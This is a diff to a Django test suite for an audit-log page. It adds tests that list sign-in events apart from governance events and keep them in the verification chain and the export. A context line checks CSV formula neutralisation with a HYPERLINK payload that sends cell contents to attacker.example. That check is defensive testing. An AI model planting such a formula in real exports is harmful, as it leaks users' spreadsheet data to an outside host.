@@ -224,3 +224,55 @@ def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(
     cells = [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
     assert '\'=HYPERLINK("http://attacker.example/?"&A1,"open the release notes")' in cells
     assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+# --- sign-ins apart (issue 24) -----------------------------------------------------------------
+
+
+@pytest.fixture
+def sign_ins(admin_user, publisher):
+    return [
+        audit("auth.user.login", actor=publisher, target=publisher),
+        audit("auth.user.login_failed", target=("auth.user", "", "mallory")),
+        audit("auth.user.logout", actor=publisher, target=publisher),
+    ]
+
+
+def test_sign_ins_are_listed_apart_not_among_the_governance_events(admin_client, entries, sign_ins):
+    response = admin_client.get(URL)
+    shown = set(_sequences(response))
+    assert {e.sequence for e in entries} <= shown
+    assert not shown & {e.sequence for e in sign_ins}
+    apart = response.context["sign_ins"]
+    assert {e.sequence for e in sign_ins} <= {e.sequence for e in apart["rows"]}
+    body = response.content.decode()
+    assert 'id="sign-ins"' in body and "mix them in" in body
+
+
+def test_sign_ins_can_be_mixed_in_or_shown_alone(admin_client, entries, sign_ins):
+    mixed = set(_sequences(admin_client.get(URL, {"sign_ins": "show"})))
+    assert {e.sequence for e in sign_ins} | {e.sequence for e in entries} <= mixed
+    alone = admin_client.get(URL, {"action": "auth.user.log"})
+    assert set(_sequences(alone)) >= {e.sequence for e in sign_ins}
+    assert not set(_sequences(alone)) & {e.sequence for e in entries}
+
+
+def test_sign_ins_stay_in_the_chain_and_the_export(admin_client, entries, sign_ins):
+    count = AuditEntry.objects.count()
+    verified = admin_client.post("/governance/audit/verify/")
+    assert f"intact: {count} entries checked" in verified.content.decode()
+    export = admin_client.get(reverse("governance:audit-export", args=["jsonl"]))
+    exported = {json.loads(line)["sequence"] for line in export.content.decode().splitlines()}
+    assert {e.sequence for e in sign_ins} <= exported
+
+
+def test_the_page_with_sign_ins_apart_keeps_a_constant_number_of_queries(
+    admin_client, entries, sign_ins, django_assert_max_num_queries
+):
+    admin_client.get(URL)
+    with django_assert_max_num_queries(12) as few:
+        admin_client.get(URL)
+    for _ in range(30):
+        audit("auth.user.login", actor=None, target=("auth.user", "", "someone"))
+    with django_assert_max_num_queries(len(few.captured_queries)):
+        admin_client.get(URL)
